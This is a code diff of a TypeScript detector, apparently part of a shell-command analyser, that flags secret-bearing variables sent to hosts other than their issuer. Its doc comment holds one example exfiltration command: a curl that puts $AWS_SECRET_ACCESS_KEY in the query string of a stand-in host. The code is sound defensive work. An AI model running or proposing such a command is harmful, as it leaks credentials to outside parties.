@@ -21,15 +21,14 @@ const VARIABLE = /\$\{?([A-Z][A-Z0-9_]*)/g;
 const HOST = /^(?:https?:\/\/)?(?:[^/?#@\s]*@)?((?!localhost\b|127\.|10\.|192\.168\.)[\w-]+(?:\.[\w-]+)+)(?::\d+)?(?=[/?#]|$)/i;
 
 /** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer. */
-export function foreignTokens(args: readonly Word[], running: Running): false {
+export function foreignTokens(args: readonly Word[], running: Running): void {
   const hosts = args.flatMap((word) => HOST.exec(textOf(word))?.[1]?.toLowerCase() ?? []);
   const [host, ...others] = hosts;
-  if (host === undefined || others.length > 0) return false;
+  if (host === undefined || others.length > 0) return;
   args.forEach((word, index) => {
     if (word.values[0].certainty === 'certain' || !word.written.includes('$') || /^(?:-H|--header|-u|--user)$/.test(textOf(args[index - 1]))) return;
     for (const [, name = ''] of word.written.matchAll(VARIABLE)) {
       if (ISSUERS.some(([variable, own]) => variable.test(name) && !own.test(host))) emitResource('send', 'credential', name, running);
     }
   });
-  return false;
 }
